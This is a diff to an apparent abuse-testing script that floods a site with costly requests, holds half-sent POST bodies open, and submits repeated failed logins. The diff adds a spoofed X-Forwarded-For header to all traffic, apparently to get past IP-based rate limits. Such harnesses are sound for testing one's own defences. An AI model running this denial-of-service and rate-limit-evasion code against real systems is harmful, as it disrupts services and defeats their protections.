@@ -4,7 +4,7 @@ import { connect, type Socket } from 'node:net'
 import { setTimeout as sleep } from 'node:timers/promises'
 import { openForm, sendForm } from './visit.ts'
 
-const [kind = '', site = '', issuer = ''] = process.argv.slice(2)
+const [kind = '', site = '', issuer = '', from = ''] = process.argv.slice(2)
 const agent = new Agent({ keepAlive: true, maxSockets: Number.POSITIVE_INFINITY })
 const answers: Record<string, number> = {}
 let stopping = false
@@ -16,7 +16,7 @@ const count = (answer: string | number): void => {
 /** Asks once; never fails, because an attacker does not stop for an error. */
 const ask = (url: string): Promise<void> =>
   new Promise((done) => {
-    const asking = request(url, { agent }, (response) => {
+    const asking = request(url, { agent, headers: { 'x-forwarded-for': from } }, (response) => {
       count(response.statusCode ?? 0)
       response.resume().once('close', done)
     })
@@ -68,20 +68,22 @@ async function hold(times: number, origin: string, words: string, drip = ''): Pr
 }
 
 const halfPost = (path: string): string =>
-  `POST ${path} HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{`
+  `POST ${path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: ${from}\r\nContent-Type: application/json\r\nContent-Length: 5000\r\n\r\n{`
 
 const attacks: Record<string, () => Promise<unknown>> = {
   requetes: () => loops(20, () => ask(costly())),
   salves: () => loops(1, async () => void (await Promise.all(Array.from({ length: 32 }, () => ask(costly()))))),
   async connexions() {
-    const forms = await Promise.all(Array.from({ length: 100 }, () => openForm({ site, issuer }).catch(() => null)))
+    const forms = await Promise.all(
+      Array.from({ length: 100 }, () => openForm({ site, issuer }, from).catch(() => null)),
+    )
     await loops(100, async (rank) => {
       asked += 1
       const typed = { email: `inconnu-${asked}@exemple.fr`, password: 'pas-le-bon' }
-      const form = forms[rank] ?? (await openForm({ site, issuer }).catch(() => null))
+      const form = forms[rank] ?? (await openForm({ site, issuer }, from).catch(() => null))
       forms[rank] = form
       if (form)
-        await sendForm({ site, issuer }, form, typed).then(
+        await sendForm({ site, issuer }, form, typed, from).then(
           ({ status }) => count(status),
           () => count('coupée'),
         )
